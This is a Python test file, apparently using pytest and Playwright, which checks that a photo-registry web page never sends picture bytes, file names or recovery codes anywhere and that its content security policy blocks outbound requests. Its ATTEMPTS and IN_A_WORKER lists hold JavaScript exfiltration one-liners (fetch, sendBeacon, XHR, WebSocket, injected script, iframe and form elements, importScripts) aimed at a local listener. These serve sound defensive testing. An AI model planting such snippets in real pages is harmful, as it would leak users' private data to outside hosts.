"""Every request of the page is looked at: no picture, no file name, nothing to anybody else."""

import base64
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Worker

from support.serving import Served

from .visiting import PATIENCE_MS, THREE, Sent, Visitor, visitor

PIECE = 24
"""So many bytes in a row of a picture are enough to call it leaked."""
XHR = (
    "(() => { const it = new XMLHttpRequest(); it.open('POST', URL); "
    "try { it.send('x') } catch {} })()"
)
MAKE = "(() => { const it = document.createElement"
ATTEMPTS = (
    "fetch(URL).catch(() => 0)",
    "fetch(URL, {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    XHR,
    "navigator.sendBeacon(URL, 'x')",
    "new Promise(done => { const it = new Image(); it.onerror = it.onload = done; it.src = URL })",
    "(() => { try { new WebSocket(URL.replace('http', 'ws')) } catch {} })()",
    "(() => { try { new EventSource(URL) } catch {} })()",
    f"{MAKE}('script'); it.src = URL; document.head.append(it) }})()",
    f"{MAKE}('iframe'); it.src = URL; document.body.append(it) }})()",
    f"{MAKE}('link'); it.rel = 'stylesheet'; it.href = URL; document.head.append(it) }})()",
    f"{MAKE}('form'); it.action = URL; document.body.append(it); it.submit() }})()",
    "import(URL).catch(() => 0)",
    "(() => { document.body.style.backgroundImage = `url(${URL})` })()",
)
IN_A_WORKER = (
    "fetch(URL).catch(() => 0)",
    XHR,
    "(() => { try { importScripts(URL) } catch {} })()",
    "(() => { try { new WebSocket(URL.replace('http', 'ws')) } catch {} })()",
)


@dataclass
class Visit:
    """What a browser sent while somebody was at the page, and their recovery code."""

    sent: list[Sent]
    code: str = field(repr=False)

    def everything(self) -> bytes:
        return b"\n".join(it.everything() for it in self.sent)


class Elsewhere:
    """Another place on this machine, which writes down who came."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        place = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                place.seen.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    place = Elsewhere()
    serving = threading.Thread(target=place.server.serve_forever)
    serving.start()
    yield place
    place.server.shutdown()
    serving.join()
    place.server.server_close()


def pieces(path: Path) -> list[bytes]:
    """Return pieces of a file, raw and as base64 has them at each of its three offsets."""
    content = path.read_bytes()
    raw = [content[at : at + PIECE] for at in range(0, len(content) - PIECE, PIECE)]
    return raw + [base64.b64encode(it[skip:])[4:-4] for it in raw for skip in range(3)]


def leaked(sent: bytes, files: tuple[Path, ...]) -> list[str]:
    """Return which files something of is in what was sent: their names or their bytes."""
    return [
        it.name
        for it in files
        if it.stem.encode() in sent or any(piece in sent for piece in pieces(it))
    ]


def test_the_search_finds_what_leaks() -> None:
    content = THREE[0].read_bytes()
    assert leaked(content[1000:1100], THREE) == [THREE[0].name]
    assert leaked(b"x" + base64.b64encode(b"ab" + content[:200]), THREE) == [THREE[0].name]
    assert leaked(b"GET /?name=canyon.webp", THREE) == [THREE[2].name]


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ...]:
    """Three photos under names that stand nowhere else."""
    folder = tmp_path_factory.mktemp("named")
    return tuple(
        Path(shutil.copy(it, folder / f"us-at-the-sea-{number}{it.suffix}"))
        for number, it in enumerate(THREE)
    )


@pytest.fixture(scope="module")
def whole_visit(browser: Browser, registry: Served, named: tuple[Path, ...]) -> Visit:
    """Somebody who registers, asks, adds and withdraws; what was sent meanwhile."""
    with visitor(browser) as who:
        who.page.goto(registry.url)
        number, code = who.register(named[:2])
        who.press("Close and go to the start")
        who.open_case(number, code)
        who.press("Check progress")
        who.expect_text("Case {number}", number=number)
        who.press("Add pictures")
        who.choose(named[2:])
        who.press("Continue")
        who.press("Send to the registry")
        who.expect_heading("Pictures added")
        who.press("Close and go to the start")
        who.open_case(number, code)
        who.press("Withdraw")
        who.press("Yes, withdraw it")
        who.expect_heading("Withdrawn")
        return Visit(who.sent, code)


def test_no_request_holds_a_pictures_bytes_or_name(
    whole_visit: Visit, named: tuple[Path, ...]
) -> None:
    assert len(whole_visit.everything()) > 10_000
    assert leaked(whole_visit.everything(), named) == []


def test_the_recovery_code_never_leaves(whole_visit: Visit) -> None:
    for code in (whole_visit.code, whole_visit.code.replace("-", "")):
        assert code.encode() not in whole_visit.everything()


def test_only_the_registry_is_asked_and_only_what_the_page_needs(
    whole_visit: Visit, registry: Served
) -> None:
    asked = [urlsplit(it.url) for it in whole_visit.sent if not it.url.startswith("blob:")]
    assert {f"{it.scheme}://{it.netloc}" for it in asked} == {registry.url}
    calls = {it.path for it in asked}
    assert calls <= {
        *("/", "/manifest.webmanifest", "/icon.svg"),
        *("/v1/submissions", "/v1/challenge", "/v1/status"),
    }
    assert {it.query for it in asked} == {""}
    assert not {name for it in whole_visit.sent for name in it.headers} & {"cookie", "referer"}


def test_while_pictures_are_hashed_nothing_is_sent_at_all(person: Visitor) -> None:
    person.press("Start")
    before = len(person.asked())
    person.choose(THREE)
    person.press("Continue")
    person.expect_heading("Not sent yet. First write these two down")
    assert len(person.asked()) == before


@pytest.fixture(scope="module")
def unguarded(browser: Browser, registry: Served) -> Iterator[Visitor]:
    """Somebody whose browser heeds no policy."""
    with visitor(browser, bypass_csp=True) as who:
        who.page.goto(registry.url)
        who.begin(THREE[:1])
        yield who


def arrived(elsewhere: Elsewhere, unguarded: Visitor) -> list[str]:
    """Return what came before a later request, which the policy doesn't stop, came as well."""
    unguarded.page.evaluate(f"fetch({elsewhere.url + '/later'!r}).catch(() => 0)")
    deadline = time.monotonic() + PATIENCE_MS / 1000
    while "/leak/later" not in elsewhere.seen:
        assert time.monotonic() < deadline
        unguarded.page.wait_for_timeout(20)
    return [it for it in elsewhere.seen if it != "/leak/later"]


def tried(where: Page | Worker, attempt: str, elsewhere: Elsewhere) -> None:
    where.evaluate(attempt.replace("URL", repr(elsewhere.url)))


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_stops_a_script_that_wants_to_send(
    person: Visitor, unguarded: Visitor, elsewhere: Elsewhere, attempt: str
) -> None:
    tried(person.page, attempt, elsewhere)
    assert arrived(elsewhere, unguarded) == []


@pytest.mark.parametrize("attempt", IN_A_WORKER)
def test_the_policy_stops_the_worker_that_sees_the_pictures(
    person: Visitor, unguarded: Visitor, elsewhere: Elsewhere, attempt: str
) -> None:
    person.begin(THREE[:1])
    tried(person.page.workers[0], attempt, elsewhere)
    assert arrived(elsewhere, unguarded) == []


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_saved_page_can_send_to_nobody_not_even_to_the_registry(
    browser: Browser, saved_page: Path, unguarded: Visitor, elsewhere: Elsewhere, attempt: str
) -> None:
    with visitor(browser) as who:
        who.page.goto(saved_page.as_uri())
        tried(who.page, attempt, elsewhere)
        assert arrived(elsewhere, unguarded) == []


@pytest.mark.parametrize("attempt", [*ATTEMPTS, *IN_A_WORKER])
def test_without_the_policy_each_attempt_arrives(
    browser: Browser, registry: Served, elsewhere: Elsewhere, attempt: str
) -> None:
    with visitor(browser, bypass_csp=True) as who:
        who.page.goto(registry.url)
        who.begin(THREE[:1])
        place: Page | Worker = who.page.workers[0] if attempt in IN_A_WORKER else who.page
        tried(place, attempt, elsewhere)
        deadline = time.monotonic() + PATIENCE_MS / 1000
        while not elsewhere.seen:
            assert time.monotonic() < deadline
            time.sleep(0.02)
